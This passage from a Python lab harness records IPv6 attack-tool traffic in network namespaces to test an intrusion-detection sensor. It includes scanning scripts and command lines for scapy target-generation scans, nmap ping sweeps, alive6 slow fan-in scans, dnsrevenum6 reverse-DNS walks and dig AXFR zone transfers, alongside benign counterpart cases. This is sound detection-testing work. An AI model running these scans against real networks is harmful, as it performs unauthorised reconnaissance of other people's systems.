            f'  directory: "{lab.workdir}"\n  pidfile: "{lab.workdir}/unbound-{n}.pid"\n'
            '  use-syslog: no\n  logfile: ""\n  verbosity: 1\n  num-threads: 1\n'
            '  module-config: "iterator"\n'
            f"  qname-minimisation: {'yes' if minimise else 'no'}\n"
            "  qname-minimisation-strict: no\n  prefetch: no\n"
            "  aggressive-nsec: no\n  so-reuseport: no\n  access-control: ::1/128 allow\n"
            # unbound answers 2001:db8::/32's reverse zone itself (RFC 6303 locally
            # served zones); this lab's resolvers must ask its authoritative.
            f'  local-zone: "{DNS_ZONE}." nodefault\n'
            "  do-not-query-localhost: yes\n"
            "remote-control:\n  control-enable: no\n" + stubs
        )
        lab.spawn(node, ["unbound", "-d", "-c", str(conf)], f"unbound-{n}.log")
        out.append((node, port))
    for n in range(len(out)):
        log = lab.workdir / f"unbound-{n}.log"
        deadline = time.monotonic() + 10
        while "start of service" not in log.read_text(errors="replace"):
            if time.monotonic() > deadline:
                raise RuntimeError(f"unbound {n} did not start: {log.read_text(errors='replace')}")
            time.sleep(0.05)
    return out


def lookup(lab: Lab, resolver: tuple[str, int], address: str) -> str:
    """The PTR of ``address`` through one resolver (dig -x); its status line."""
    node, port = resolver
    got = lab.sh(
        node, "dig", "@::1", "-p", str(port), "-x", address, "+time=3", "+tries=1", check=False
    )
    return next((line for line in got.stdout.splitlines() if "status:" in line), got.stdout)


def _to_auth(f: Frame) -> bool:
    return f.dst_ip == DNS_AUTH and f.upper == NH_UDP


def _from_auth(f: Frame) -> bool:
    return f.src_ip == DNS_AUTH and f.upper == NH_UDP


RESOLVER_QUERIES: Final = Evidence(
    "distinct resolver addresses querying the authoritative",
    _to_auth,
    DNS_RESOLVERS,
    distinct=source,
)
AUTH_ANSWERS: Final = Evidence("answers from the authoritative", _from_auth, DNS_RESOLVERS)


@scenario(
    expect=["ipv6.dns_backscatter"],
    sids=[1001601],
    evidence=[RESOLVER_QUERIES, AUTH_ANSWERS],
    tools=["nsd", "unbound", "dig"],
)
def dns_backscatter_scanner(lab: Lab) -> None:
    """12 unbound resolvers reverse-resolve one scanner's address (no PTR: NXDOMAIN) at
    nsd, as the scanner's targets would: potential abuse."""
    start_lan(lab)
    start_nsd(lab)
    for r in start_resolvers(lab):
        lookup(lab, r, DNS_SCANNER)
    time.sleep(0.5)


@scenario(
    expect=["ipv6.dns_backscatter"],
    sids=[1001602],
    evidence=[RESOLVER_QUERIES, AUTH_ANSWERS],
    tools=["nsd", "unbound", "dig"],
)
def dns_backscatter_own_host(lab: Lab) -> None:
    """12 resolvers reverse-resolve h1's SLAAC address (in the monitored /64, no PTR): one
    of our hosts is acting network-wide, high severity."""
    start_lan(lab)
    start_nsd(lab)
    for r in start_resolvers(lab):
        lookup(lab, r, slaac_address(H1.mac))
    time.sleep(0.5)


@scenario(
    expect=(),
    evidence=[RESOLVER_QUERIES, AUTH_ANSWERS],
    tools=["nsd", "unbound", "dig"],
)
def dns_backscatter_mail(lab: Lab) -> None:
    """12 resolvers look up the mail server's PTR (mail.example.com): a well-known service,
    an observation, no alert."""
    start_lan(lab)
    start_nsd(lab)
    for r in start_resolvers(lab):
        lookup(lab, r, DNS_MAIL)
    time.sleep(0.5)


@scenario(
    expect=(),
    evidence=[Evidence("queries to the authoritative", _to_auth, 5)],
    tools=["nsd", "unbound", "dig"],
)
def dns_one_resolver(lab: Lab) -> None:
    """One resolver reverse-resolves a few names (the zone's hosts and two without a PTR)."""
    start_lan(lab)
    start_nsd(lab)
    (r,) = start_resolvers(lab, 1)
    for a in (*DNS_HOSTS, "2001:db8:1::99", "2001:db8:1::9a"):
        lookup(lab, r, a)
    time.sleep(0.5)


@scenario(
    expect=(),
    evidence=[
        RESOLVER_QUERIES,
        Evidence("distinct names asked", _to_auth, 3 * DNS_RESOLVERS),
    ],
    tools=["nsd", "unbound", "dig"],
)
def dns_busy_authoritative(lab: Lab) -> None:
    """A busy authoritative: 12 resolvers each ask three different names (36 names, each
    asked by one resolver): many resolvers, many names, no originator worth raising."""
    start_lan(lab)
    start_nsd(lab)
    for i, r in enumerate(start_resolvers(lab)):
        for j in range(3):
            lookup(lab, r, f"2001:db8:1::{0x100 + 3 * i + j:x}")
    time.sleep(0.5)


@scenario(
    expect=["ipv6.rdns_walk"],
    sids=[1001611],
    evidence=[
        Evidence(
            "distinct names dnsrevenum6 asked",
            lambda f: f.src_ip == DNS_WALKER and _to_auth(f),
            64,
        )
    ],
    tools=["nsd", "atk6-dnsrevenum6"],
)
def dnsrevenum6_walk(lab: Lab) -> None:
    """thc-ipv6's dnsrevenum6 in a1 walks 2001:db8:1::/48 at nsd (RFC 8020's NXDOMAIN
    tree) and finds the zone's three hosts."""
    start_lan(lab)
    start_nsd(lab)
    _ip("-n", lab.nodes["a1"], "addr", "add", f"{DNS_WALKER}/64", "dev", "eth0", "nodad")
    lab.run_tool("a1", ["atk6-dnsrevenum6", DNS_AUTH, "2001:db8:1::/48"], 60)
    time.sleep(0.5)


@scenario(
    expect=["ipv6.rdns_walk"],
    sids=[1001612],
    evidence=[
        Evidence(
            "TCP segments from a1 to the authoritative",
            lambda f: f.src_ip == DNS_WALKER and f.dst_ip == DNS_AUTH and f.upper == 6,
            2,
        )
    ],
    tools=["nsd", "dig"],
)
def dig_axfr(lab: Lab) -> None:
    """dig in a1 asks nsd for a zone transfer (AXFR over TCP) of our reverse zone; nsd
    refuses it."""
    start_lan(lab)
    start_nsd(lab)
    _ip("-n", lab.nodes["a1"], "addr", "add", f"{DNS_WALKER}/64", "dev", "eth0", "nodad")
    lab.run_tool(
        "a1", ["dig", f"@{DNS_AUTH}", "-b", DNS_WALKER, DNS_ZONE, "AXFR", "+time=3", "+tries=1"], 10
    )
    time.sleep(0.5)


# -- DNS review fixes (issue 15): TCP continuations, QNAME minimisation ---------------
# A zone transfer that nsd allows (a zone of DNS_XFR_HOSTS PTRs, its answer spans many
# TCP segments: the decoder must skip the continuations, never call them malformed), and
# a QNAME-minimising unbound resolving many names that exist (its successively longer
# partial names are not a walk).

DNS_XFR_HOSTS: Final = {
    f"2001:db8:1:{i % 8:x}::{0x1000 + 37 * i:x}": f"host-{i}.example.com." for i in range(400)
}
DNS_MINIMISED: Final = 50  # names a minimising resolver resolves
DNS_MIN_HOSTS: Final = {
    f"2001:db8:1:{i % 8:x}::{0x100 + 37 * i:x}": f"pc-{i}.example.com."
    for i in range(DNS_MINIMISED)
}


@scenario(
    expect=["ipv6.rdns_walk"],
    sids=[1001612],
    evidence=[
        Evidence(
            "TCP segments from the authoritative to a1 (the transfer's answer)",
            lambda f: f.src_ip == DNS_AUTH and f.dst_ip == DNS_WALKER and f.upper == 6,
            6,
        )
    ],
    tools=["nsd", "dig"],
)
def dig_axfr_allowed(lab: Lab) -> None:
    """dig in a1 transfers our reverse zone (AXFR over TCP) from nsd, which allows it to
    a1: a zone of 400 PTRs, an answer over many TCP segments. Still a zone transfer
    attempt (the sensor does not know the secondaries); the continuation segments are
    skipped, never malformed (``test_a_multi_segment_axfr_answer_is_never_malformed``)."""
    start_lan(lab)
    _ip("-n", lab.nodes["a1"], "addr", "add", f"{DNS_WALKER}/64", "dev", "eth0", "nodad")
    # One TCP segment per frame on the wire: without this the veth hands the capture
    # GSO super-frames of up to 64 KiB, and the answer would be one frame.
    lab.sh("h2", "ip", "link", "set", "eth0", "gso_max_segs", "1")
    start_nsd(lab, DNS_XFR_HOSTS, xfr_to=DNS_WALKER)
    lab.run_tool(
        "a1", ["dig", f"@{DNS_AUTH}", "-b", DNS_WALKER, DNS_ZONE, "AXFR", "+time=5", "+tries=1"], 15
    )
    time.sleep(0.5)


@scenario(
    expect=(),
    evidence=[
        # Without minimisation it would be one query per name: twice that proves the
        # partial names were asked.
        Evidence(
            "queries from the minimising resolver to the authoritative",
            lambda f: f.src_ip == "2001:db8:1::5300" and _to_auth(f),
            2 * DNS_MINIMISED,
        )
    ],
    tools=["nsd", "unbound", "dig"],
)
def dns_qname_minimisation(lab: Lab) -> None:
    """One unbound with QNAME minimisation (RFC 9156) resolves the PTRs of 50 hosts of
    our zone: for each it asks the authoritative successively longer partial names (A
    queries, NOERROR) and then the full name. Many partial names from one querier, each
    extended by the next: not a walk, silent."""
    start_lan(lab)
    start_nsd(lab, DNS_MIN_HOSTS)
    (r,) = start_resolvers(lab, 1, minimise=True)
    for a in DNS_MIN_HOSTS:
        lookup(lab, r, a)
    time.sleep(0.5)


# -- target-generation scans: UDP, EUI-64 and embedded-IPv4 targets (issue 15 review) ---
# The identifier classes that name a TGA scan's pattern, from real traffic: a2 scans the
# same 40 unrouted /64s of the site's /48 as the scans above (r1's no-route errors come
# from its WAN address, outside the /48: no replies). ZMapv6 and 6Scan probe hitlists of
# EUI-64 addresses with UDP to DNS; 6Gen and Entropy/IP clusters of IPv4-embedding
# identifiers (::c000:2xx, the host 192.0.2.x) are pinged.

# Identifier cluster of EUI-64 addresses: VMware's OUI 00:50:56 with the universal/local
# bit flipped (02:50:56), ff:fe in the middle, two varying nibbles of the NIC part.
TGA_EUI64_CLUSTER: Final = "250:56ff:fe0{x:x}:{y:x}a5"
# IPv4 192.0.2.0/25 in the low 32 bits: ::c000:2XY.
TGA_IPV4_CLUSTER: Final = "c000:2{x:x}{y:x}"

# Sends a DNS query (UDP to port 53) for example.com to every address listed in a file,
# one every 20 ms, from a2 to r1's WAN MAC, with scapy (random source ports, as ZMapv6's
# UDP module does).
_SCAPY_TGA_UDP: Final = """
import sys
from scapy.all import DNS, DNSQR, Ether, IPv6, UDP, sendp
src, router_mac, listing = sys.argv[1], sys.argv[2], sys.argv[3]
targets = open(listing, encoding="ascii").read().split()
frames = [
    Ether(dst=router_mac) / IPv6(src=src, dst=t, hlim=64)
    / UDP(sport=40000 + i % 20000, dport=53) / DNS(id=i, rd=1, qd=DNSQR(qname="example.com"))
    for i, t in enumerate(targets)
]
sendp(frames, iface="eth0", inter=0.02, verbose=False)
print(f"sent {len(frames)} UDP queries")
"""


def tga_udp_evidence(first_subnet: int) -> Evidence:
    """``tga_evidence``, counting only UDP datagrams."""
    low = ipaddress.IPv6Network(TGA_SITE)[first_subnet << 64]
    return Evidence(
        "distinct /64s of the site's /48 sent UDP from a2",
        lambda f: (
            frames(A2.mac, dst_net=TGA_SITE, upper=17)(f) and ipaddress.IPv6Address(f.dst_ip) >= low
        ),
        32,
        distinct=destination_64,
    )


@scenario(
    expect=(),
    evidence=[],
    outside=expected(["ipv6.tga_scan"], [tga_udp_evidence(TGA_SCAN_FIRST)], [1001501]),
)
def scapy_tga_udp_eui64(lab: Lab) -> None:
    """A scapy scanner sends DNS queries (UDP to port 53) to 320 EUI-64 targets
    (2001:db8:1:S:250:56ff:fe0X:Ya5) over 40 /64s, 50 per second.

    ``python -c _SCAPY_TGA_UDP 2001:db8:ff::a <r1's WAN MAC> targets.txt`` in a2 (~7 s,
    under ``timeout`` 15 s): a target-generation scan over UDP whose pattern is eui64;
    r1's no-route errors are the only answers.
    """
    start_routed(lab)
    unreachable_site(lab)
    targets = lab.workdir / "tga-targets.txt"
    listing = tga_targets(TGA_SCAN_FIRST, 1518, TGA_EUI64_CLUSTER)
    targets.write_text("\n".join(listing) + "\n", encoding="ascii")
    argv = [sys.executable, "-c", _SCAPY_TGA_UDP, A2.addresses[0], R1_WAN.mac, str(targets)]
    remote_scan(argv, 15, lab)


@scenario(
    expect=(),
    evidence=[],
    tools=["nmap"],
    outside=expected(["ipv6.tga_scan"], [tga_evidence(TGA_SCAN_FIRST)], [1001501]),
)
def nmap_tga_embedded_ipv4(lab: Lab) -> None:
    """nmap pings 320 targets embedding IPv4 addresses of 192.0.2.0/25 in their low 32
    bits (2001:db8:1:S::c000:2XY) over 40 /64s of the site's /48.

    ``nmap -6 -n -sn --max-retries 0 --min-rate 50 --max-rate 50 -PE -iL targets.txt``
    (~7 s, under ``timeout`` 12 s): a target-generation scan whose pattern is
    embedded_ipv4. Nothing reaches the LAN.
    """
    start_routed(lab)
    unreachable_site(lab)
    targets = lab.workdir / "tga-targets.txt"
    listing = tga_targets(TGA_SCAN_FIRST, 1519, TGA_IPV4_CLUSTER)
    targets.write_text("\n".join(listing) + "\n", encoding="ascii")
    remote_scan([*NMAP, *NMAP_RATE, "-PE", "-iL", str(targets)], 12, lab)


# Answers every DNS query on UDP port 53 of any local address from the address it was
# sent to (IPV6_PKTINFO): a DNS response echoing the question, no answer records.
_UDP_RESPONDER: Final = """
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
s.bind(("::", 53))
print("ready", flush=True)
while True:
    data, anc, _, peer = s.recvmsg(2048, socket.CMSG_SPACE(20))
    info = [d for lvl, typ, d in anc if lvl == socket.IPPROTO_IPV6 and typ == socket.IPV6_PKTINFO]
    if len(data) < 12 or not info:
        continue
    reply = data[:2] + b"\\x81\\x80" + data[4:6] + bytes(6) + data[12:]
    pktinfo = info[0][:16] + bytes(4)
    s.sendmsg([reply], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, pktinfo)], 0, peer)
"""


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "DNS answers from the /48's answered /64s to a2, on the LAN",
            frames(H2.mac, src_net=TGA_ANSWERED_ROUTE, upper=17),
            250,
        )
    ],
    outside=expected(
        [],
        [
            Evidence(
                "DNS answers from the /48's answered /64s to a2",
                frames(R1_WAN.mac, src_net=TGA_ANSWERED_ROUTE, upper=17),
                250,
            )
        ],
    ),
)
def benign_tga_udp_answered(lab: Lab) -> None:
    """Benign: a resolver farm's queries to a provider's DNS servers. a2 sends DNS queries
    (scapy, 50 per second) to 320 addresses over 40 /64s of the /48, which h2 holds (on
    lo, r1 routing 2001:db8:1:40::/58 to it) and answers from each (a Python UDP
    responder on port 53): UDP probes of a /48 that are answered stay silent.

    ``python -c _SCAPY_TGA_UDP 2001:db8:ff::a <r1's WAN MAC> targets.txt`` in a2 (~7 s,
    under ``timeout`` 15 s).
    """
    start_routed(lab)
    listing = tga_targets(TGA_ANSWERED_FIRST, 1520, "53:{x:x}:{y:x}:1")
    batch = lab.workdir / "tga-addresses.batch"
    batch.write_text("".join(f"address add {a}/128 dev lo\n" for a in listing), encoding="ascii")
    _ip("-n", lab.nodes["h2"], "-6", "-batch", str(batch))
    _ip("-n", lab.nodes["r1"], "-6", "route", "add", TGA_ANSWERED_ROUTE, "via", H2_GLOBAL)
    lab.spawn("h2", [sys.executable, "-c", _UDP_RESPONDER], "udp-responder-h2.log")
    deadline = time.monotonic() + 10
    while "ready" not in (lab.workdir / "udp-responder-h2.log").read_text(errors="replace"):
        if time.monotonic() > deadline:
            raise RuntimeError("h2: the UDP responder did not start")
        time.sleep(0.1)
    targets = lab.workdir / "tga-targets.txt"
    targets.write_text("\n".join(listing) + "\n", encoding="ascii")
    argv = [sys.executable, "-c", _SCAPY_TGA_UDP, A2.addresses[0], R1_WAN.mac, str(targets)]
    remote_scan(argv, 15, lab)


# -- low-and-slow fan-in (issue 15, slow-scan slice) ------------------------------------
#
# The same scan spread over many source /64s: real alive6 runs at their normal rate, the
# WAN capture then rewritten by ``slow_down`` (one probe every SLOW_EVERY seconds). Its
# fast original is ipv6.sweep's fan-in sweep; the slow one only ipv6.slow_scan's
# per-destination horizon adds up (slow_fan_in). A benign counterpart: a hosting /64
# visited as slowly by as many clients, every address answering.

SLOW_FANIN_SOURCES: Final = 16  # source /64s 2001:db8:8000::/64 .. 2001:db8:800f::/64
SLOW_FANIN_EACH: Final = 20  # targets per source /64: 2001:db8:1::K00 .. ::K13
SLOW_BUSY: Final = 240  # h2's hosting addresses for the benign case: past min_targets


def _source_64(f: Frame) -> str:
    """``Evidence.distinct`` key: the /64 of the frame's IPv6 source."""
    return str(ipaddress.IPv6Network((f.src_ip, 64), strict=False)) if f.src_ip else ""


def _slow_fanin_evidence(minimum: int) -> Evidence:
    return Evidence(
        "distinct LAN addresses probed from a2's random sources",
        frames(A2.mac, ICMP_ECHO, src_net=FANIN_NET, dst_net=LAN_PREFIX),
        minimum,
        distinct=destination,
    )


@scenario(
    expect=["ipv6.slow_scan"],
    sids=[1001402],
    tools=["atk6-alive6"],
    evidence=[
        _slow_fanin_evidence(280),
        Evidence(
            "distinct source /64s of those probes, one probe every 5 s",
            frames(A2.mac, ICMP_ECHO, src_net=FANIN_NET, dst_net=LAN_PREFIX),
            SLOW_FANIN_SOURCES,
            distinct=_source_64,
        ),
    ],
    outside=expected(["ipv6.sweep"], [_slow_fanin_evidence(280)], [1000404]),
)
def alive6_slow_fan_in(lab: Lab) -> None:
    """alive6 from 16 source /64s in turn, 20 targets each, and the same packets one
    every 5 s.

    ``atk6-alive6 -n 1 -W 1 -I 2001:db8:800K::/64 eth0 2001:db8:1::K00-K13`` for K = 0
    to f (about 1 s each; a random source address of its /64 per probe): 320 targets of
    2001:db8:1::/64, at most 20 from any source /64. Outside (the WAN capture, as
    recorded): ipv6.sweep's fan-in sweep and, by the not-a-sweep rule, no
    ipv6.slow_scan (``tests/test_attack_tools.py`` checks both). The "inside" file is
    the WAN capture rewritten by ``slow_down`` to one probe every ``SLOW_EVERY``
    seconds (about 27 minutes of packet time, 60 targets per sweep window): no sweep
    window sees it, no source /64 reaches min_targets, and the LAN's /64 collects 200
    unanswered targets from 10 source /64s: slow_fan_in.
    """
    start_fanin(lab)
    lab.limit_egress("a2", SCAN_TBF)
    for k in range(SLOW_FANIN_SOURCES):
        last = SLOW_FANIN_EACH - 1
        argv = [*ALIVE6, "-I", f"2001:db8:800{k:x}::/64", "eth0"]
        lab.run_tool("a2", [*argv, f"2001:db8:1::{k:x}00-{k:x}{last:02x}"], 4, NEIGHBOUR_BUDGET)
    time.sleep(SOLICIT_TAIL)
    lab.stop_capture()
    probes = slow_down(lab.pcaps[OUTSIDE], lab.pcaps[INSIDE], A2.mac, SLOW_EVERY)
    if probes < SLOW_FANIN_SOURCES * SLOW_FANIN_EACH:
        raise RuntimeError(f"alive6 sent {probes} probes, want at least 320")


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "distinct hosting addresses of h2 answering, one visit every 5 s",
            frames(R1_WAN.mac, ICMP_ECHO_REPLY, src_net=LAN_PREFIX, dst_net=FANIN_NET),
            SLOW_BUSY - 10,
            distinct=source,
        )
    ],
    outside=expected((), [_fanin_sources(SLOW_BUSY - 10)]),
)
def benign_slow_fan_in_hosting(lab: Lab) -> None:
    """A hosting /64 visited slowly by many clients: h2 holds 240 addresses
    (2001:db8:1::c000 upwards, as ``benign_fanin_cdn``), 240 clients from random /64s of
    2001:db8:8000::/33 ping one each (scapy, as that scenario), every one answered; the
    "inside" file is the WAN capture rewritten to one visit every ``SLOW_EVERY``
    seconds. 240 targets from 240 source /64s over 20 minutes, none unanswered: the
    no-reply gate keeps slow_fan_in silent, and the fast original is silent too.
    """
    start_fanin(lab)
    batch = "".join(f"address add {_busy(n)}/64 dev eth0 nodad\n" for n in range(SLOW_BUSY))
    subprocess.run(
        ["ip", "-n", lab.nodes["h2"], "-6", "-batch", "-"],
        input=batch,
        text=True,
        check=True,
        capture_output=True,
        timeout=30,
    )
    scapy_fanin(lab, SLOW_BUSY, SLOW_BUSY, _busy(0), 18, 1 << 24)
    lab.stop_capture()
    visits = slow_down(lab.pcaps[OUTSIDE], lab.pcaps[INSIDE], A2.mac, SLOW_EVERY)
    if visits < SLOW_BUSY:
        raise RuntimeError(f"scapy sent {visits} probes, want at least {SLOW_BUSY}")


# -- recording -----------------------------------------------------------------------


@dataclass
class Captured:
    """One capture of a recording: its file, its frames and what it must show."""

    point: str  # INSIDE, OUTSIDE or SPAN
    expected: Expected
    pcap: Path
    frames: list[Frame] = field(default_factory=list, repr=False)
    stats: str = ""  # tcpdump's closing counts

    @property
    def packets(self) -> int:
        return len(self.frames)

    def missing_evidence(self) -> list[str]:
        """Evidence checks that failed, as one line each; [] when the tool clearly ran."""
        out = []
        for ev in self.expected.evidence:
            got = ev.count(self.frames)
            if got < ev.minimum:
                unit = "distinct" if ev.distinct is not None else "frames"
                out.append(f"{ev.what}: {got} {unit}, want >= {ev.minimum}")
        return out


@dataclass
class Recording:
    """The outcome of recording one scenario: one ``Captured`` per capture point."""

    scenario: Scenario
    seconds: float
    captures: dict[str, Captured] = field(default_factory=dict)
    tool_runs: list[ToolRun] = field(default_factory=list)
    error: str | None = None

    # The LAN capture, which every scenario has, under its old names.
    @property
    def pcap(self) -> Path:
        return self.captures[INSIDE].pcap

    @property
    def frames(self) -> list[Frame]:
        return self.captures[INSIDE].frames

    @property
    def packets(self) -> int:
        return self.captures[INSIDE].packets

    @property
    def capture_stats(self) -> str:
        return self.captures[INSIDE].stats

    def missing_evidence(self) -> list[str]:
        """Failed evidence checks of every capture; lines of other captures than the LAN's
        start with the capture point."""
        out = []
        for point, cap in self.captures.items():
            prefix = "" if point == INSIDE else f"{point}: "
            out += [prefix + line for line in cap.missing_evidence()]
        return out


def merge_pcaps(out: Path, *pcaps: Path) -> int:
    """Write the frames of classic pcap files (same link type) to ``out`` in time order.

    Frames with equal timestamps keep the order of ``pcaps``. Returns the frame count.
    """
    header = b""
    frames: list[tuple[int, int, int, int, bytes]] = []
    for n, pcap in enumerate(pcaps):
        data = pcap.read_bytes()
        if len(data) < 24:
            continue
        if data[:4] != b"\xd4\xc3\xb2\xa1":  # tcpdump -w on a little-endian host
            raise ValueError(f"{pcap}: not a little-endian microsecond pcap")
        if header and data[20:24] != header[20:24]:
            raise ValueError(f"{pcap}: link type differs from {pcaps[0]}")
        header = header or data[:24]
        off = 24
        while off + 16 <= len(data):
            sec, usec, incl, _ = struct.unpack_from("<IIII", data, off)
            frames.append((sec, usec, n, off, data[off : off + 16 + incl]))
            off += 16 + incl
    frames.sort(key=lambda f: f[:4])
    out.write_bytes(header + b"".join(f[4] for f in frames))
    return len(frames)


def record(sc: Scenario, outdir: Path) -> Recording:
    """Record one scenario to ``outdir/<name>.pcap`` (and ``.outside.pcap``, ``.span.pcap``
    for the captures it has); errors are kept, not raised."""
    paths = {point: outdir / f"{sc.name}{PCAP_SUFFIX[point]}" for point in sc.captures}
    for path in paths.values():
        path.unlink(missing_ok=True)
    start = time.monotonic()
    rec = Recording(sc, 0.0)
    stats: dict[str, str] = {}
    # Named like the namespaces, so a crashed run's leftovers are found the same way.
    with tempfile.TemporaryDirectory(prefix=f"{NS_PREFIX}{os.getpid()}-{sc.name}-") as tmp:
        try:
            with Lab(Path(tmp), paths[INSIDE], paths.get(OUTSIDE)) as lab:
                try:
                    sc.run(lab)
                    lab.stop_capture()
                finally:
                    rec.tool_runs = list(lab.tool_runs)
                    stats = dict(lab.capture_stats)
            if SPAN in paths:
                count = merge_pcaps(paths[SPAN], paths[INSIDE], paths[OUTSIDE])
                stats[SPAN] = f"{count} packets merged from {INSIDE} and {OUTSIDE}"
        except Exception as exc:  # one broken scenario must not stop the others
            rec.error = f"{type(exc).__name__}: {exc}"
    rec.seconds = time.monotonic() - start
    for point, exp in sc.captures.items():
        frames = list(read_frames(paths[point])) if paths[point].exists() else []
        rec.captures[point] = Captured(point, exp, paths[point], frames, stats.get(point, ""))
    return rec


def record_all(outdir: Path, names: Sequence[str] = ()) -> list[Recording]:
    """Record the named scenarios (all by default) one after another into ``outdir``."""
    unknown = [n for n in names if n not in SCENARIOS]
    if unknown:
        raise KeyError(f"unknown scenarios: {', '.join(unknown)}")
    outdir.mkdir(parents=True, exist_ok=True)
    remove_stale_namespaces()
    return [record(SCENARIOS[n], outdir) for n in (names or list(SCENARIOS))]


_SUMMARY: Final = "Record real IPv6 attack tools in a network-namespace lab."


def _main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.netlab", description=_SUMMARY)
    sub = parser.add_subparsers(dest="command", required=True)
    rec = sub.add_parser("record", help="record scenarios to OUTDIR/<scenario>*.pcap")
    rec.add_argument("outdir", type=Path)
    rec.add_argument("scenarios", nargs="*", metavar="scenario")
    rec.add_argument("-v", "--verbose", action="store_true", help="also print each tool run")
    sub.add_parser("list", help="list the scenarios and their expected categories")
    args = parser.parse_args(argv)
    if args.command == "list":
        for sc in SCENARIOS.values():
            parts = [
                f"{'' if point == INSIDE else point + ': '}"
                + (", ".join(sorted(exp.expect)) or "(no alerts)")
                for point, exp in sc.captures.items()
            ]
            print(f"{sc.name}: {'; '.join(parts)}")
        return 0
    tools = [t for n in (args.scenarios or SCENARIOS) for t in SCENARIOS[n].tools]
    problems = lab_problems(tools)
    if problems:
        print(f"netlab: cannot run: {'; '.join(problems)}", file=sys.stderr)
        return 2
    # SIGTERM would skip the finally blocks and leave namespaces behind.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    start = time.monotonic()
    failed = 0
    for name in args.scenarios or list(SCENARIOS):
        r = record_all(args.outdir, [name])[0]
        status = r.error or "; ".join(r.missing_evidence()) or "ok"
        failed += status != "ok"
        counts = " + ".join(
            f"{cap.packets}{'' if point == INSIDE else ' ' + point}"
            for point, cap in r.captures.items()
        )
        print(f"{name}\t{counts} packets\t{r.seconds:.1f} s\t{status}", flush=True)
        if args.verbose:
            for point, cap in r.captures.items():
                print(f"    {point} ({cap.pcap.name}): {cap.stats}")
            for run in r.tool_runs:
                note = f", {run.note}" if run.note else ""
                print(f"    [{run.node}] {run.command}  (exit {run.returncode}{note})", flush=True)
    print(f"total\t{time.monotonic() - start:.1f} s", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(_main())
